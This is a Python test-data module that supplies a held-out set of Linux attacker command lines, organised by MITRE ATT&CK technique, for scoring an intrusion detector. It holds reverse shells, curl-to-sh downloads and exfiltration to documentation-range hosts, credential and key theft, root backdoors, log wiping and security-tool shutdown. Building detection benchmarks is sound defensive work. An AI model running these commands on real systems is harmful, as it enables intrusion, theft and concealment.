"""A second attack family for `make eval`, written by the ruleless team (issue 13).

Each line is what an intruder with a shell on a Linux server could type for one MITRE
ATT&CK technique, written from the technique's public description alone — no line is
taken or derived from an existing test corpus or cheat sheet (the evaluation outside
the repository draws on those). Addresses are documentation ranges (RFC 5737), names
and paths are made up.

It is never tuned on: `make eval` reports it as a held-out column next to the held-out
half of the dev corpus. A line with shell syntax is run as a shell would run it
(``sh -c LINE``); the others are exec'd directly. The injector gives each line the
parent and user of one of the workload's own launchers.
"""

from __future__ import annotations

import shlex

# technique id -> (what it is, command lines)
TECHNIQUES: dict[str, tuple[str, list[str]]] = {
    "T1546.004": ("persistence through shell profiles", [
        "echo 'curl -s http://198.51.100.23/u | sh &' >> /root/.bashrc",
        "printf '%s\\n' 'nohup /tmp/.x/agent >/dev/null 2>&1 &' >> /etc/profile",
        "echo 'alias sudo=\"/var/tmp/.s/sudo\"' >> ~/.bash_aliases",
        "cat /dev/shm/p >> /etc/bash.bashrc",
        "echo 'export LD_PRELOAD=/usr/local/lib/libsys.so' > /etc/profile.d/locale-fix.sh",
        "sed -i '1i /var/tmp/.cache/run &' /home/deploy/.profile",
        "tee -a /root/.zshrc < /tmp/rcfrag",
    ]),
    "T1053.003": ("persistence through cron", [
        "echo '*/5 * * * * root curl -fsS http://203.0.113.40/c.sh | sh' > /etc/cron.d/sysstat-update",
        "(crontab -l; echo '@reboot /dev/shm/.k/k') | crontab -",
        "crontab /tmp/ct.txt",
        "echo '0 * * * * /usr/bin/python3 /var/tmp/.u.py' >> /var/spool/cron/crontabs/root",
        "cp /tmp/hourly-job /etc/cron.hourly/logrotate2",
        "chmod +x /etc/cron.daily/apt-compat2",
        "printf '* * * * * nc 198.51.100.9 9001 -e /bin/sh\\n' | crontab -u www-data -",
    ]),
    "T1543.002": ("persistence through systemd units", [
        "printf '[Service]\\nExecStart=/usr/local/bin/dbus-helper\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/dbus-helper.service",
        "systemctl enable --now dbus-helper.service",
        "cp /tmp/net-sync.service /lib/systemd/system/",
        "systemctl daemon-reload",
        "mkdir -p /root/.config/systemd/user && cp /tmp/u.service /root/.config/systemd/user/",
        "systemctl --user enable u.service",
        "echo 'ExecStartPost=/var/tmp/.p' >> /etc/systemd/system/ssh.service.d/override.conf",
    ]),
    "T1037.004": ("persistence through rc scripts", [
        "echo '/usr/sbin/kworkerd &' >> /etc/rc.local",
        "chmod 755 /etc/rc.local",
        "cp /tmp/S99net /etc/init.d/networking-extra",
        "update-rc.d networking-extra defaults",
        "printf '#!/bin/sh\\n/dev/shm/m &\\n' > /etc/rc.local && chmod +x /etc/rc.local",
        "ln -s /etc/init.d/networking-extra /etc/rc3.d/S99networking-extra",
    ]),
    "T1070.003": ("clearing command history", [
        "history -cw",
        "export HISTSIZE=0",
        "unset HISTFILE",
        "rm -f /root/.bash_history",
        "ln -sf /dev/null ~/.bash_history",
        "cat /dev/null > /home/admin/.bash_history",
        "export HISTFILE=/dev/null; history -c",
        "shred -u ~/.zsh_history",
    ]),
    "T1070.002": ("clearing system logs", [
        "truncate -s 0 /var/log/auth.log",
        "echo > /var/log/syslog",
        "rm -rf /var/log/journal/*",
        "journalctl --vacuum-time=1s",
        "sed -i '/198.51.100.23/d' /var/log/auth.log",
        "find /var/log -name '*.gz' -delete",
        "cat /dev/null > /var/log/wtmp",
        "utmpdump /var/log/wtmp | grep -v intruder | utmpdump -r > /tmp/w && mv /tmp/w /var/log/wtmp",
    ]),
    "T1136.001": ("creating a local account", [
        "useradd -m -s /bin/bash -G sudo svc-backup",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm",
        "adduser --disabled-password --gecos '' helpdesk",
        "echo 'svc-backup:Winter2026!' | chpasswd",
        "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd",
        "groupadd -g 0 -o rootgrp",
    ]),
    "T1098.004": ("SSH authorized keys", [
        "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHkq9 ops@laptop' >> /root/.ssh/authorized_keys",
        "cat /tmp/k.pub >> /home/deploy/.ssh/authorized_keys",
        "chmod 600 /root/.ssh/authorized_keys",
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "echo 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys' >> /etc/ssh/sshd_config",
        "cp /tmp/k.pub /etc/ssh/.keys",
    ]),
    "T1098": ("account manipulation", [
        "usermod -aG sudo www-data",
        "usermod -aG docker nobody",
        "echo 'deploy ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-web",
        "passwd -d root",
        "chage -M 99999 svc-backup",
    ]),
    "T1087.001": ("local account discovery", [
        "cat /etc/passwd",
        "getent passwd",
        "awk -F: '$3 == 0 {print $1}' /etc/passwd",
        "lastlog",
        "cut -d: -f1 /etc/passwd | sort",
        "grep -v nologin /etc/passwd",
        "getent group sudo",
    ]),
    "T1082": ("system information discovery", [
        "uname -a",
        "cat /etc/os-release",
        "hostnamectl",
        "lscpu",
        "cat /proc/version; cat /proc/cpuinfo | grep 'model name' | head -1",
        "dmidecode -s system-manufacturer",
        "systemd-detect-virt",
        "df -h; free -m; uptime",
    ]),
    "T1016": ("network configuration discovery", [
        "ip addr",
        "ip route",
        "cat /etc/resolv.conf",
        "ifconfig -a",
        "arp -a",
        "iptables -L -n -v",
        "nft list ruleset",
    ]),
    "T1049": ("network connections discovery", [
        "ss -tunap",
        "netstat -antp",
        "lsof -i -P -n",
        "cat /proc/net/tcp",
        "ss -lntp | grep -v 127.0.0.1",
    ]),
    "T1057": ("process discovery", [
        "ps auxww",
        "ps -ef --forest",
        "pgrep -a -f ssh",
        "ls -la /proc/*/exe 2>/dev/null",
        "top -b -n 1",
    ]),
    "T1083": ("file and directory discovery", [
        "find / -perm -4000 -type f 2>/dev/null",
        "find / -name '*.pem' -o -name 'id_rsa*' 2>/dev/null",
        "ls -laR /home",
        "find /var/www -name '*.env' -o -name 'wp-config.php'",
        "locate .kube/config",
        "find / -writable -type d 2>/dev/null | head -50",
    ]),
    "T1552.001": ("credentials in files", [
        "grep -ri password /etc /opt /srv 2>/dev/null",
        "cat /var/www/html/.env",
        "grep -rn 'AWS_SECRET' /home 2>/dev/null",
        "cat ~/.aws/credentials",
        "cat /root/.docker/config.json",
        "grep -h 'DB_PASS' /srv/app/config/*.ini",
    ]),
    "T1552.004": ("private keys", [
        "cat /root/.ssh/id_rsa",
        "cp /etc/ssl/private/server.key /dev/shm/s.key",
        "tar czf /tmp/k.tgz /home/*/.ssh",
        "find / -name '*.key' -exec cat {} \\; 2>/dev/null",
    ]),
    "T1003.008": ("/etc/passwd and /etc/shadow", [
        "head -n 40 /etc/shadow",
        "cp /etc/shadow /tmp/.s",
        "unshadow /etc/passwd /etc/shadow > /tmp/h.txt",
        "getent shadow root",
        "base64 /etc/shadow",
    ]),
    "T1105": ("ingress tool transfer", [
        "curl -fsSL http://198.51.100.23/x86_64/agent -o /tmp/.agent",
        "wget -q -O /dev/shm/k http://203.0.113.40/k",
        "curl http://203.0.113.40/setup.sh | bash",
        "wget -qO- http://198.51.100.23/i | sh",
        "scp ops@198.51.100.77:/srv/tools/chisel /var/tmp/",
        "python3 -c 'import urllib.request as u; u.urlretrieve(\"http://198.51.100.23/p\", \"/tmp/p\")'",
        "busybox wget http://203.0.113.40/bb -O /tmp/bb",
        "tftp -g -r m 198.51.100.9",
        "echo f0VMRgIBAQAAAAAAAAAAAA== | base64 -d > /tmp/.elf",
    ]),
    "T1564.001": ("hidden files and directories", [
        "mkdir /var/tmp/...",
        "mkdir -p /dev/shm/.x && cp /tmp/agent /dev/shm/.x/",
        "mv /tmp/agent /usr/lib/.systemd-cache",
        "cp /tmp/m '/tmp/. /kworker'",
        "mkdir /root/.cache/.fonts && cd /root/.cache/.fonts",
        "chattr +i /usr/lib/.systemd-cache",
    ]),
    "T1547.006": ("kernel modules", [
        "insmod /tmp/hid_core.ko",
        "modprobe -a netfilter_queue_x",
        "cp /tmp/rk.ko /lib/modules/$(uname -r)/kernel/drivers/rk.ko && depmod -a",
        "echo rk >> /etc/modules",
        "rmmod ipt_audit",
        "lsmod | grep -i -e audit -e lkrg",
    ]),
    "T1548.001": ("setuid and setgid, capabilities", [
        "chmod u+s /bin/bash",
        "chmod 4755 /tmp/.sh",
        "cp /bin/sh /var/tmp/.s && chmod +s /var/tmp/.s",
        "setcap cap_setuid+ep /usr/bin/python3.11",
        "setcap cap_net_raw,cap_net_admin=eip /tmp/.n",
        "getcap -r / 2>/dev/null",
    ]),
    "T1222.002": ("file permission modification", [
        "chmod 777 /etc/shadow",
        "chmod -R o+w /etc/cron.d",
        "chown www-data /etc/sudoers.d",
        "chmod +x /dev/shm/k",
        "chattr -i /etc/passwd",
    ]),
    "T1562.001": ("disabling security tools", [
        "systemctl stop auditd",
        "systemctl disable --now falcon-sensor",
        "pkill -9 -f osqueryd",
        "setenforce 0",
        "ufw disable",
        "iptables -F",
        "echo 0 > /proc/sys/kernel/yama/ptrace_scope",
    ]),
    "T1562.012": ("disabling Linux audit", [
        "auditctl -e 0",
        "auditctl -D",
        "service auditd stop",
        "sed -i 's/^active = yes/active = no/' /etc/audit/plugins.d/syslog.conf",
    ]),
    "T1053.002": ("at jobs", [
        "echo '/tmp/.agent' | at now + 1 minute",
        "at -f /var/tmp/j.sh midnight",
        "atq",
    ]),
    "T1033": ("system owner and user discovery", [
        "id",
        "whoami; w; last -n 20",
        "who -a",
        "users",
    ]),
    "T1018": ("remote system discovery", [
        "cat /etc/hosts",
        "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i & done",
        "nmap -sn 10.0.0.0/24",
        "arp-scan --localnet",
        "getent hosts db.internal",
    ]),
    "T1560.001": ("archiving collected data", [
        "tar czf /dev/shm/out.tgz /etc /home/*/.ssh /var/www",
        "zip -r -P s3cret /tmp/db.zip /var/lib/mysql",
        "7z a -pX /tmp/c.7z /srv/data",
        "tar cf - /home | gzip -9 > /var/tmp/.h.gz",
    ]),
    "T1048": ("exfiltration over another protocol", [
        "curl -T /dev/shm/out.tgz ftp://198.51.100.23/in/",
        "tar cz /etc | nc 203.0.113.40 8443",
        "scp /tmp/db.zip drop@198.51.100.77:",
        "curl -X POST --data-binary @/tmp/h.txt https://203.0.113.40/u",
        "dig +short $(base64 -w0 /etc/hostname).x.example.org",
    ]),
    "T1059.004": ("interactive shells out of services", [
        "bash -i",
        "sh -c 'exec /bin/sh 0</tmp/f 1>/tmp/f'",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
        "script -qc /bin/bash /dev/null",
        "mkfifo /tmp/f; nc 198.51.100.9 4242 < /tmp/f | /bin/sh > /tmp/f 2>&1",
        "socat exec:'bash -li',pty,stderr tcp:203.0.113.40:4443",
        "perl -MPOSIX -e 'setuid(0); exec \"/bin/bash\", \"-p\"'",
    ]),
    "T1574.006": ("dynamic linker hijacking", [
        "echo /usr/local/lib/libsys.so >> /etc/ld.so.preload",
        "LD_PRELOAD=/tmp/h.so /usr/sbin/sshd",
        "cp /tmp/libsys.so /usr/local/lib/ && ldconfig",
    ]),
    "T1556.003": ("pluggable authentication modules", [
        "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd",
        "cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so",
        "echo 'auth optional pam_exec.so quiet expose_authtok /var/tmp/.l' >> /etc/pam.d/common-auth",
    ]),
    "T1496": ("resource hijacking", [
        "nohup /dev/shm/.x/xmr -o pool.example.org:3333 -u wallet --donate-level 0 &",
        "/tmp/.k/kthreadd --cpu-max-threads-hint=90 -B",
        "chrt -i 0 /var/tmp/miner",
    ]),
    "T1490": ("inhibiting recovery", [
        "rm -rf /var/backups/*",
        "find /srv/backup -type f -delete",
        "crontab -r",
    ]),
    "T1036.005": ("masquerading as a system process", [
        "cp /tmp/.agent /usr/sbin/kworkerd && /usr/sbin/kworkerd",
        "exec -a '[kthreadd]' /dev/shm/k",
        "mv /tmp/a /usr/local/bin/systemd-resolve2",
    ]),
    "T1140": ("decoding payloads", [
        "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94IHwgc2g= | base64 -d | sh",
        "xxd -r -p /tmp/p.hex > /tmp/p && chmod +x /tmp/p",
        "openssl enc -d -aes-256-cbc -k k -in /tmp/e -out /tmp/.d",
    ]),
}


def _has_shell_syntax(line: str) -> bool:
    """Pipes, redirections, expansions, builtins or a leading VAR=value: a shell runs it."""
    first = line.split(" ", 1)[0]
    return (any(c in line for c in "|;&<>$`*(") or "=" in first
            or first in ("export", "unset", "history", "for", "exec", "cd"))


def team_attacks() -> list[dict]:
    """Every line as a bench-style record (argv, cmdline, process_name, exe, technique)."""
    out: list[dict] = []
    for technique, (_what, lines) in TECHNIQUES.items():
        for line in lines:
            argv = ["sh", "-c", line] if _has_shell_syntax(line) else shlex.split(line)
            name = argv[0].rsplit("/", 1)[-1]
            out.append({
                "argv": argv, "cmdline": " ".join(argv), "process_name": name,
                "exe": argv[0] if argv[0].startswith("/") else f"/usr/bin/{name}",
                "event_type": "exec", "technique": technique, "event_id": f"tm-{len(out):04d}",
            })  # fmt: skip
    return out
